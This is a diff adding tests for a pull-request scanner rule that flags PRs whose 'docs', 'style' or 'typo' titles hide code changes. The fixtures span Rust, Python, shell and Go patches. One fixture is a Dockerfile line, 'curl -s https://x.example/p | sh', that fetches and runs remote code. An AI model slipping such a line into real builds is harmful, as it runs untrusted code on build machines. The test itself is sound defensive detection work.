@@ -602,3 +602,53 @@ describe('secrets in example projects (tonic, 2026-11-27)', () => {
     expect(scan([makeFile('deploy/tls/server.key', { status: 'added', patch: hunk(key) })]).map((f) => [f.id, f.severity])).toEqual([['private-key-added', 'critical']]);
   });
 });
+
+describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histories (2026-11-27)', () => {
+  const claimOf = (path: string, patch: string, title: string): string[] => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => `${f.path}:${f.line ?? '-'}`);
+
+  it('rustdoc attributes under a docs claim are documentation; a cfg gate under the same title is code', () => {
+    const gate = ['@@ -130,3 +130,4 @@', ' /// ```', '+#[cfg_attr(docsrs, doc(cfg(feature = "erased-json")))]', ' #[macro_export]', ' macro_rules! json {'].join('\n');
+    expect(claimOf('crates/extra/src/response/erased_json.rs', gate, 'docs: Document that the json macro is feature-gated')).toEqual([]);
+    const crateLevel = ['@@ -7,2 +7,2 @@', '-#![cfg_attr(docsrs, feature(doc_auto_cfg))]', '+#![cfg_attr(docsrs, feature(doc_cfg))]', ' #![deny(missing_docs)]'].join('\n');
+    expect(claimOf('crates/build/src/lib.rs', crateLevel, 'chore(doc): Replace doc_auto_cfg with doc_cfg')).toEqual([]);
+    const inline = ['@@ -31,2 +31,3 @@', ' #[cfg(feature = "cookie-signed")]', '+#[doc(inline)]', ' pub use cookie::Key;'].join('\n');
+    expect(claimOf('crates/extra/src/extract/cookie/mod.rs', inline, 'docs(extra): clarify Key::derive_from')).toEqual([]);
+    const cfg = ['@@ -130,3 +130,4 @@', ' /// ```', '+#[cfg(not(feature = "erased-json"))]', ' #[macro_export]', ' macro_rules! json {'].join('\n');
+    expect(claimOf('crates/extra/src/response/erased_json.rs', cfg, 'docs: Document that the json macro is feature-gated')).toEqual(['crates/extra/src/response/erased_json.rs:131']);
+  });
+
+  it('imports split one name a statement (rustfmt imports_granularity, isort force_single_line) are no change; a name more is', () => {
+    const unnest = [
+      '@@ -24,6 +24,8 @@',
+      ' use std::any::Any;',
+      '-use rpc::service::{Message, Request, Response};',
+      '-use rpc::{client::ChannelOptions, inmemory};',
+      ' use tokio_stream::StreamExt;',
+      '+use rpc::client::ChannelOptions;',
+      '+use rpc::inmemory;',
+      '+use rpc::service::Message;',
+      '+use rpc::service::Request;',
+      '+use rpc::service::Response;',
+    ].join('\n');
+    expect(claimOf('rpc/examples/inmemory.rs', unnest, 'rpc(chore): reformat all imports: unnest and order')).toEqual([]);
+    const python = ['@@ -1,2 +1,3 @@', '-from pkg.models import Order, User', '+from pkg.models import Order', '+from pkg.models import User', ' import os'].join('\n');
+    expect(claimOf('src/pkg/views.py', python, 'style: isort force_single_line')).toEqual([]);
+    const more = unnest.replace('+use rpc::service::Response;', '+use rpc::service::Response;\n+use rpc::credentials::Insecure;');
+    expect(claimOf('rpc/src/client.rs', more, 'rpc(chore): reformat all imports: unnest and order')).toEqual(['rpc/src/client.rs:26']);
+    const moved = unnest.replace('+use rpc::inmemory;', '+use rpc::client::inmemory;');
+    expect(claimOf('rpc/src/client.rs', moved, 'rpc(chore): reformat all imports: unnest and order')).toEqual(['rpc/src/client.rs:26']);
+  });
+
+  it('a docs claim over the script that builds the docs, or over an example program, is what it says; over a Dockerfile or Go code it is not', () => {
+    const script = ['@@ -14,3 +14,3 @@', ' ./gradlew dokkaGenerate', '-mv ./build/dokka/html docs/4.x', '+mv ./build/dokka/html docs/5.x'].join('\n');
+    expect(claimOf('test_docs.sh', script, 'Update doc links from 4.x to 5.x')).toEqual([]);
+    const example = ['@@ -10,2 +10,2 @@', '-    let layer = TimeoutLayer::new(Duration::from_secs(10));', '+    let layer = TimeoutLayer::with_status_code(StatusCode::REQUEST_TIMEOUT, Duration::from_secs(10));'].join('\n');
+    expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'docs: update deprecated TimeoutLayer::new in example')).toEqual([]);
+    // Under a typo claim the example's code is code.
+    expect(claimOf('examples/graceful-shutdown/src/main.rs', example, 'Fix typo in graceful-shutdown example')).toEqual(['examples/graceful-shutdown/src/main.rs:10']);
+    const docker = ['@@ -3,2 +3,2 @@', ' FROM golang:1.22', '-RUN go build ./...', '+RUN curl -s https://x.example/p | sh'].join('\n');
+    expect(scan([makeFile('Dockerfile', { patch: docker })], 'docs: fix the build instructions').map((f) => f.id)).toContain('pr-claim-mismatch');
+    const dockerGo = ['@@ -3,2 +3,2 @@', ' func run() error {', '-\treturn build()', '+\treturn push()'].join('\n');
+    expect(claimOf('internal/docker/run.go', dockerGo, 'docs: fix comments')).toEqual(['internal/docker/run.go:4']);
+  });
+});
